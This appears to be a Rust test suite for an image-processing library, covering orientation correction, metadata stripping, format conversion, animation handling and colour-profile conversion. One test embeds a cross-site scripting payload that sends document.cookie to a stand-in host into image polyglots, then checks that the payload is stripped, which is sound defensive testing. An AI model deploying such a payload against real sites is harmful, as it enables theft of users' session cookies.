use galley_images::{Look, PictureKind, PictureLimits};
use image::RgbImage;
use moxcms::ColorProfile;

use crate::made::{
    BLUE, RED, corners, exif, gif, is_about, jpeg, jpeg_with_profile, pixels, png, quarters, read, with_segment,
};

static CMYK: &[u8] = include_bytes!("../samples/cmyk.jpg");
static PROGRESSIVE: &[u8] = include_bytes!("../samples/progressive.jpg");
static ANIMATED: &[u8] = include_bytes!("../samples/animated.webp");
static LOSSLESS: &[u8] = include_bytes!("../samples/lossless.webp");

#[test]
fn every_way_up_is_turned_upright_and_forgotten() {
    let upright = [Some("red"), Some("green"), Some("blue"), Some("white")];
    // How the four quarters have to be stored, so that a viewer who heeds the orientation sees them in order.
    let stored: [(u8, [u8; 4]); 8] = [
        (1, *b"rgbw"),
        (2, *b"grwb"),
        (3, *b"wbgr"),
        (4, *b"bwrg"),
        (5, *b"rbgw"),
        (6, *b"gwrb"),
        (7, *b"wgbr"),
        (8, *b"brwg"),
    ];
    for (orientation, quarter) in stored {
        let is_turned = orientation >= 5;
        let (width, height) = if is_turned { (32, 64) } else { (64, 32) };
        let source = quarters(2, 2);
        let image = RgbImage::from_fn(width, height, |x, y| {
            let at = usize::from(x >= width / 2) + 2 * usize::from(y >= height / 2);
            let (x, y) = match quarter[at] {
                b'r' => (0, 0),
                b'g' => (1, 0),
                b'b' => (0, 1),
                _ => (1, 1),
            };
            *source.get_pixel(x, y)
        });
        let bytes = with_segment(&jpeg(&image), 0xe1, &exif(orientation, "taken at home"));
        assert!(contains(&bytes, b"taken at home"));
        let picture = read(&bytes).unwrap();
        assert_eq!((picture.width(), picture.height()), (64, 32), "{orientation}");
        let done = picture.encoded().unwrap();
        assert_eq!(corners(&pixels(&done.bytes)), upright, "{orientation}");
        for encoded in picture.variants().unwrap().into_iter().map(|variant| variant.encoded).chain([done]) {
            assert!(!contains(&encoded.bytes, b"taken at home") && !contains(&encoded.bytes, b"Exif"));
            assert_eq!(corners(&pixels(&encoded.bytes)), upright, "{orientation}");
        }
    }
}

fn contains(bytes: &[u8], part: &[u8]) -> bool {
    bytes.windows(part.len()).any(|window| window == part)
}

#[test]
fn what_hides_in_a_picture_does_not_come_out() {
    let script = b"*/;fetch('//example.org/'+document.cookie)//<script>alert(1)</script>";
    let polyglot = [gif(&[RED], 20, 10), script.to_vec()].concat();
    let commented = with_segment(&jpeg(&quarters(20, 10)), 0xfe, script);
    let behind = [jpeg(&quarters(20, 10)), b"PK\x03\x04".to_vec(), script.to_vec()].concat();
    for bytes in [polyglot, commented, behind] {
        let picture = read(&bytes).unwrap();
        let all = picture.variants().unwrap().into_iter().map(|variant| variant.encoded);
        for encoded in all.chain([picture.encoded().unwrap()]) {
            assert!(!contains(&encoded.bytes, b"alert(1)") && !contains(&encoded.bytes, b"PK\x03\x04"));
        }
    }
}

#[test]
fn kinds_stay_and_a_gif_becomes_a_png() {
    for (bytes, kind, stored) in [
        (jpeg(&quarters(20, 10)), PictureKind::Jpeg, PictureKind::Jpeg),
        (gif(&[RED], 20, 10), PictureKind::Gif, PictureKind::Png),
        (LOSSLESS.to_vec(), PictureKind::Webp, PictureKind::Webp),
    ] {
        assert_eq!(Look::at(&bytes, &PictureLimits::default()).unwrap().kind, kind);
        let done = read(&bytes).unwrap().encoded().unwrap();
        assert_eq!((done.kind, PictureKind::of(&done.bytes)), (stored, Some(stored)));
    }
}

#[test]
fn of_an_animation_the_first_frame_is_kept() {
    for bytes in [gif(&[RED, BLUE], 32, 32), ANIMATED.to_vec()] {
        let done = read(&bytes).unwrap().encoded().unwrap();
        let pixels = pixels(&done.bytes);
        assert!(is_about(&pixels, 16, 16, RED), "{:?}", pixels.get_pixel(16, 16));
    }
}

#[test]
fn printers_colours_and_progressive_files_are_read() {
    for bytes in [CMYK, PROGRESSIVE, LOSSLESS] {
        let done = read(bytes).unwrap().encoded().unwrap();
        let pixels = pixels(&done.bytes);
        assert_eq!(pixels.dimensions(), (48, 32));
        assert!(is_about(&pixels, 10, 16, RED) && is_about(&pixels, 38, 16, BLUE), "{:?}", pixels.get_pixel(10, 16));
    }
}

#[test]
fn a_png_of_any_depth_is_brought_to_eight_bits() {
    use png::{BitDepth, ColorType};
    let wide: Vec<u8> = [0xff80u16, 0, 0, 0, 0, 0xff80].into_iter().flat_map(u16::to_be_bytes).collect();
    for (color, depth, data, left, right) in [
        (ColorType::Rgb, BitDepth::Sixteen, wide, RED, BLUE),
        (ColorType::Grayscale, BitDepth::One, vec![0b1000_0000], [255; 3], [0; 3]),
        (ColorType::GrayscaleAlpha, BitDepth::Eight, vec![255, 255, 0, 255], [255; 3], [0; 3]),
        (ColorType::Rgba, BitDepth::Eight, vec![255, 0, 0, 255, 0, 0, 255, 255], RED, BLUE),
    ] {
        let done = read(&png(2, 1, color, depth, &data)).unwrap().encoded().unwrap();
        let pixels = pixels(&done.bytes);
        assert!(is_about(&pixels, 0, 0, left) && is_about(&pixels, 1, 0, right), "{color:?} {depth:?}");
    }
}

#[test]
fn a_wide_colour_space_is_brought_to_srgb_and_a_broken_profile_changes_nothing() {
    // What Display P3 calls this is sRGB's (255, 0, 0) within a step or two: primaries of P3 are farther out.
    let p3_of_red = RgbImage::from_pixel(16, 16, image::Rgb([234, 51, 35]));
    let profile = ColorProfile::new_display_p3().encode().unwrap();
    let done = read(&jpeg_with_profile(&p3_of_red, profile)).unwrap().encoded().unwrap();
    let pixel = *pixels(&done.bytes).get_pixel(8, 8);
    assert!(pixel[0] > 250 && pixel[1] < 12 && pixel[2] < 12, "{pixel:?}");
    let plain = read(&jpeg(&p3_of_red)).unwrap().encoded().unwrap();
    for profile in [vec![7; 300], vec![]] {
        assert_eq!(read(&jpeg_with_profile(&p3_of_red, profile)).unwrap().encoded().unwrap(), plain);
    }
}

#[test]
fn a_look_says_size_and_memory_before_anything_is_decoded() {
    let limits = PictureLimits::default();
    let small = Look::at(&jpeg(&quarters(64, 32)), &limits).unwrap();
    assert_eq!((small.width, small.height, small.memory_mb()), (64, 32, 17));
    // 50 million pixels, of which every line is still to come.
    let large = Look::at(&crate::made::png_header(10_000, 5_000), &limits).unwrap();
    assert_eq!(large.memory_mb(), 398);
    let progressive = Look::at(PROGRESSIVE, &limits).unwrap();
    assert_eq!((progressive.width, progressive.height), (48, 32));
}
